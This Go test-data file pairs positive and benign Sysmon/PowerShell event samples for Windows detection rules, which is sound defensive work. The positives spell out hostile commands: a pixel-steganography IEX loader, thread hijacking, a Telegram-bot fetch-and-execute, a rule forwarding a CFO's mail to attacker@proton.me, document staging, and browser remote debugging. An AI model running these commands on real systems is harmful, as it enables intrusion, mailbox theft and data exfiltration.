// Samples for the rules in rules/*/c_*.yml: each positive is an event
// written for its rule from the behaviour it describes, each negative a
// benign event of the same kind that the rule must not match.

package detect

func init() {
	rulePositives = append(rulePositives,
		ruleSample{
			ID:      "6476c066-4132-4b8b-b2e5-306f2d799a12", // Unsigned Kernel Driver Loaded
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 6,
			Fields: map[string]string{
				"ImageLoaded":     "C:\\Users\\Public\\hide.sys",
				"Signature":       "",
				"SignatureStatus": "Unavailable",
				"Signed":          "false",
			},
		},
		ruleSample{
			ID:      "e36d7d45-329c-41f2-a31e-56b8d0e30f7e", // Executable Packer Run on the Host
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "upx.exe -9 C:\\Users\\bob\\AppData\\Local\\Temp\\beacon.exe -o C:\\Users\\bob\\AppData\\Local\\Temp\\svc.exe",
				"Image":       "C:\\Users\\bob\\AppData\\Local\\Temp\\upx.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "48038a95-b178-4f06-bb9f-5a2e4995971b", // Script Rebuilds Code From Image Pixels
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "sal a New-Object;Add-Type -A System.Drawing;$g=a System.Drawing.Bitmap(\"C:\\Users\\bob\\cat.png\");$o=a Byte[] 2560;(0..1)|%{foreach($x in(0..1279)){$p=$g.GetPixel($x,$_);$o[$_*1280+$x]=([math]::Floor(($p.B-band15)*16)-bor($p.G -band 15))}};IEX([System.Text.Encoding]::ASCII.GetString($o[0..2400]))",
			},
		},
		ruleSample{
			ID:      "6f0aa96d-fadc-4d1c-b032-5e52c7f3a9b0", // Archive or Executable Appended to an Image With copy /b
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "cmd.exe /c copy /b C:\\Users\\bob\\Pictures\\holiday.jpg + C:\\Users\\bob\\AppData\\Local\\Temp\\tools.zip C:\\Users\\Public\\holiday2.jpg",
				"Image":       "C:\\Windows\\System32\\cmd.exe",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		ruleSample{
			ID:      "3776e24b-a855-4392-9413-1ea3a642992c", // Script Resolves Windows API Addresses at Run Time
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "$u=[AppDomain]::CurrentDomain.GetAssemblies()|?{$_.Location.EndsWith('System.dll')};$t=$u.GetType('Microsoft.Win32.UnsafeNativeMethods');$gpa=$t.GetMethod('GetProcAddress',[Type[]]@('System.Runtime.InteropServices.HandleRef','string'))",
			},
		},
		ruleSample{
			ID:      "c235bf52-01cf-46f4-9900-76af837ac363", // File Base64- or Hex-Encoded With certutil
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "certutil.exe -encode C:\\Users\\bob\\AppData\\Local\\Temp\\payload.exe C:\\Users\\bob\\AppData\\Local\\Temp\\payload.txt",
				"Image":       "C:\\Windows\\System32\\certutil.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "e84ef7b8-599e-402a-8c6a-35936413a07c", // Process Started From a File With a Document or Picture Extension
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "\"C:\\Users\\bob\\Downloads\\invoice.pdf\"",
				"Image":       "C:\\Users\\bob\\Downloads\\invoice.pdf",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		ruleSample{
			ID:      "e84ef7b8-599e-402a-8c6a-35936413a07c", // Process Started From a File With a Document or Picture Extension
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "rundll32.exe C:\\ProgramData\\logo.png,DllRegisterServer",
				"Image":       "C:\\Windows\\System32\\rundll32.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "7a3c5226-11b3-4b22-ad6d-721acb793c0d", // Script Suspends a Thread and Rewrites Its Context
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "[Kernel32]::SuspendThread($hThread); [Kernel32]::GetThreadContext($hThread, [ref]$ctx); $ctx.Rip = $remoteBuf; [Kernel32]::SetThreadContext($hThread, [ref]$ctx); [Kernel32]::ResumeThread($hThread)",
			},
		},
		ruleSample{
			ID:      "098850a0-e7a1-4fc9-995b-f536060caa7e", // Python One-Liner Runs Decoded, Downloaded or Socket-Bound Code
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "python.exe -c \"import base64;exec(base64.b64decode('aW1wb3J0IHNvY2tldA=='))\"",
				"Image":       "C:\\Python311\\python.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "f4f5280e-9c5a-4e20-8033-a46aa71e50be", // Mailbox Export Requests or Mailbox Content Removed From Exchange
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-MailboxExportRequest -Status Completed | Remove-MailboxExportRequest -Confirm:$false",
			},
		},
		ruleSample{
			ID:      "aa86c3da-dd5f-4e13-b755-069a07c575ee", // Files Copied From a Remote Share to the Local Host
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "cmd.exe /c copy \\\\fs01\\finance$\\payroll_2026.xlsx %TEMP%\\p.xlsx",
				"Image":       "C:\\Windows\\System32\\cmd.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "aa86c3da-dd5f-4e13-b755-069a07c575ee", // Files Copied From a Remote Share to the Local Host
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "powershell.exe copy-item -Path \"\\\\127.0.0.1\\C$\\Windows\\temp\\Easter_Bunny.password\" -Destination \"$Env:TEMP\\Easter_egg.password\"",
				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "ca69352b-43f4-4bff-a2fc-1ca491dbed50", // Autostart Entry Deleted From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "reg.exe delete HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /f",
				"Image":       "C:\\Windows\\System32\\reg.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "7f0e3d2c-a2fc-4393-a41d-3d0b9c6826d8", // Documents Gathered Into a Temp or Public Staging Folder
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "robocopy.exe C:\\Users\\alice\\Documents C:\\Users\\Public\\cache *.docx *.xlsx *.pdf /S",
				"Image":       "C:\\Windows\\System32\\Robocopy.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "78fd3dea-85b7-40a4-9c7d-a5ea917a03e5", // Device Joined or Registered to Entra ID With AADInternals
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Join-AADIntDeviceToAzureAD -DeviceName \"WS-SPARE-07\" -DeviceType \"Commodore\" -OSVersion \"C64\"",
			},
		},
		ruleSample{
			ID:      "583a8073-6eea-4795-9760-107313cf44b7", // Telegram Bot API Called From a Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "powershell.exe -nop -c \"$u=https://api.telegram.org/bot6012345678:AAH/getUpdates; iex (irm $u).result[-1].message.text\"",
				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "405dae7d-f199-4998-bd97-cc6602cf189b", // Telegram Bot API Resolved by a Script Host or Shell
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 22,
			Fields: map[string]string{
				"Image":     "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"QueryName": "api.telegram.org",
			},
		},
		ruleSample{
			ID:      "c1e8655b-160c-4e36-8959-6b3df6176c26", // Mailbox Rule or Setting Forwards Mail Elsewhere
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "New-InboxRule -Mailbox cfo@contoso.com -Name \"sync\" -From * -ForwardTo attacker@proton.me",
			},
		},
		ruleSample{
			ID:      "f8f449eb-5e1f-4565-8b76-67de67898ec0", // Inbox Rule Deletes Mail or Hides It in a Rarely-Read Folder
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "New-InboxRule -Mailbox cfo@contoso.com -Name \".\" -SubjectContainsWords \"invoice\",\"payment\",\"suspicious\" -MoveToFolder \"cfo:\\RSS Feeds\" -MarkAsRead $true",
			},
		},
		ruleSample{
			ID:      "62280bbe-8d43-424c-a141-2ceceb60b517", // Script Searches the Disk for Documents and Copies or Archives Them
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-ChildItem -Path C:\\Users -Recurse -Include *.docx,*.xlsx,*.pdf -ErrorAction SilentlyContinue | Copy-Item -Destination $env:TEMP\\c",
			},
		},
		ruleSample{
			ID:      "61bde928-ccaa-4052-a0fe-df479c3dc2c0", // cmd for /r Loop Copies Documents
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "cmd.exe /c for /R C:\\Users\\ %f in (*.docx *.pdf) do copy \"%f\" C:\\ProgramData\\c\\ ",
				"Image":       "C:\\Windows\\System32\\cmd.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "b37904e5-8347-41ad-b3db-136e216123b1", // ClickOnce Application Launched Through dfshim
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "rundll32.exe dfshim.dll,ShOpenVerbApplication http://203.0.113.9/app/Updater.application",
				"Image":       "C:\\Windows\\System32\\rundll32.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "acca0a6d-f2be-4f84-95ef-1173d7c038c7", // Browser Started With a Remote Debugging Port by Another Program
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --headless --remote-debugging-port=9222 --user-data-dir=\"C:\\Users\\bob\\AppData\\Local\\Google\\Chrome\\User Data\"",
				"Image":       "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
				"ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
			},
		},
	)
	ruleNegatives = append(ruleNegatives,
		ruleSample{
			ID:      "6476c066-4132-4b8b-b2e5-306f2d799a12", // Unsigned Kernel Driver Loaded
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 6,
			Fields: map[string]string{
				"ImageLoaded":     "C:\\Windows\\System32\\drivers\\VBoxGuest.sys",
				"Signature":       "Oracle Corporation",
				"SignatureStatus": "Valid",
				"Signed":          "true",
			},
		},
		ruleSample{
			ID:      "e36d7d45-329c-41f2-a31e-56b8d0e30f7e", // Executable Packer Run on the Host
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "upx.exe -d C:\\samples\\packed.exe -o C:\\samples\\unpacked.exe",
				"Image":       "C:\\Tools\\upx\\upx.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "48038a95-b178-4f06-bb9f-5a2e4995971b", // Script Rebuilds Code From Image Pixels
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "$bmp = New-Object System.Drawing.Bitmap($path); $c = $bmp.GetPixel(0,0); Write-Output \"top-left colour $c\"",
			},
		},
		ruleSample{
			ID:      "6f0aa96d-fadc-4d1c-b032-5e52c7f3a9b0", // Archive or Executable Appended to an Image With copy /b
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "cmd.exe /c copy /b part1.log + part2.log combined.log",
				"Image":       "C:\\Windows\\System32\\cmd.exe",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		ruleSample{
			ID:      "3776e24b-a855-4392-9413-1ea3a642992c", // Script Resolves Windows API Addresses at Run Time
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Add-Type -MemberDefinition [DllImport(\"user32.dll\")] public static extern bool MessageBeep(uint t); -Name Beep -Namespace Win32; [Win32.Beep]::MessageBeep(0)",
			},
		},
		ruleSample{
			ID:      "c235bf52-01cf-46f4-9900-76af837ac363", // File Base64- or Hex-Encoded With certutil
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "certutil.exe -encode C:\\pki\\rootca.cer C:\\pki\\rootca.b64",
				"Image":       "C:\\Windows\\System32\\certutil.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "e84ef7b8-599e-402a-8c6a-35936413a07c", // Process Started From a File With a Document or Picture Extension
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "rundll32.exe C:\\Windows\\System32\\shimgvw.dll,ImageView_Fullscreen C:\\Users\\bob\\Pictures\\cat.png",
				"Image":       "C:\\Windows\\System32\\rundll32.exe",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		ruleSample{
			ID:      "7a3c5226-11b3-4b22-ad6d-721acb793c0d", // Script Suspends a Thread and Rewrites Its Context
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-Process -Id $pid | Select-Object -ExpandProperty Threads | Where-Object ThreadState -eq Wait | Measure-Object",
			},
		},
		ruleSample{
			ID:      "098850a0-e7a1-4fc9-995b-f536060caa7e", // Python One-Liner Runs Decoded, Downloaded or Socket-Bound Code
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "python.exe -c \"import sys; print(sys.version)\"",
				"Image":       "C:\\Python311\\python.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "f4f5280e-9c5a-4e20-8033-a46aa71e50be", // Mailbox Export Requests or Mailbox Content Removed From Exchange
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-MailboxExportRequest | Format-Table Name, Status, FilePath",
			},
		},
		ruleSample{
			ID:      "aa86c3da-dd5f-4e13-b755-069a07c575ee", // Files Copied From a Remote Share to the Local Host
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "cmd.exe /c copy C:\\build\\out\\app.exe \\\\fs01\\releases\\app.exe",
				"Image":       "C:\\Windows\\System32\\cmd.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "aa86c3da-dd5f-4e13-b755-069a07c575ee", // Files Copied From a Remote Share to the Local Host
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "cmd.exe /c xcopy \\\\corp.local\\NETLOGON\\fonts C:\\Windows\\Temp\\fonts /y",
				"Image":       "C:\\Windows\\System32\\cmd.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "ca69352b-43f4-4bff-a2fc-1ca491dbed50", // Autostart Entry Deleted From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "reg.exe query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
				"Image":       "C:\\Windows\\System32\\reg.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "7f0e3d2c-a2fc-4393-a41d-3d0b9c6826d8", // Documents Gathered Into a Temp or Public Staging Folder
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "robocopy.exe C:\\Users\\alice\\Documents D:\\Backup\\alice *.docx /MIR",
				"Image":       "C:\\Windows\\System32\\Robocopy.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "78fd3dea-85b7-40a4-9c7d-a5ea917a03e5", // Device Joined or Registered to Entra ID With AADInternals
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-AzureADDevice -All $true | Where-Object { $_.ApproximateLastLogonTimeStamp -lt (Get-Date).AddDays(-90) }",
			},
		},
		ruleSample{
			ID:      "583a8073-6eea-4795-9760-107313cf44b7", // Telegram Bot API Called From a Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" https://web.telegram.org/",
				"Image":       "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		ruleSample{
			ID:      "405dae7d-f199-4998-bd97-cc6602cf189b", // Telegram Bot API Resolved by a Script Host or Shell
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 22,
			Fields: map[string]string{
				"Image":     "C:\\Users\\bob\\AppData\\Roaming\\Telegram Desktop\\Telegram.exe",
				"QueryName": "api.telegram.org",
			},
		},
		ruleSample{
			ID:      "c1e8655b-160c-4e36-8959-6b3df6176c26", // Mailbox Rule or Setting Forwards Mail Elsewhere
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "New-InboxRule -Mailbox alice@contoso.com -Name \"newsletters\" -SubjectContainsWords \"newsletter\" -MoveToFolder \"alice:\\Newsletters\"",
			},
		},
		ruleSample{
			ID:      "f8f449eb-5e1f-4565-8b76-67de67898ec0", // Inbox Rule Deletes Mail or Hides It in a Rarely-Read Folder
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "New-InboxRule -Mailbox alice@contoso.com -Name \"projects\" -From pm@contoso.com -MoveToFolder \"alice:\\Projects\"",
			},
		},
		ruleSample{
			ID:      "62280bbe-8d43-424c-a141-2ceceb60b517", // Script Searches the Disk for Documents and Copies or Archives Them
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-ChildItem -Path C:\\Reports -Recurse -Filter *.pdf | Measure-Object -Property Length -Sum",
			},
		},
		ruleSample{
			ID:      "61bde928-ccaa-4052-a0fe-df479c3dc2c0", // cmd for /r Loop Copies Documents
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "cmd.exe /c for /R C:\\build %f in (*.obj) do del \"%f\"",
				"Image":       "C:\\Windows\\System32\\cmd.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "b37904e5-8347-41ad-b3db-136e216123b1", // ClickOnce Application Launched Through dfshim
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "rundll32.exe dfshim.dll,ShArpMaintain Contoso.Payroll.application, Culture=neutral",
				"Image":       "C:\\Windows\\System32\\rundll32.exe",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		ruleSample{
			ID:      "acca0a6d-f2be-4f84-95ef-1173d7c038c7", // Browser Started With a Remote Debugging Port by Another Program
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"CommandLine": "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --restore-last-session",
				"Image":       "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
	)
}
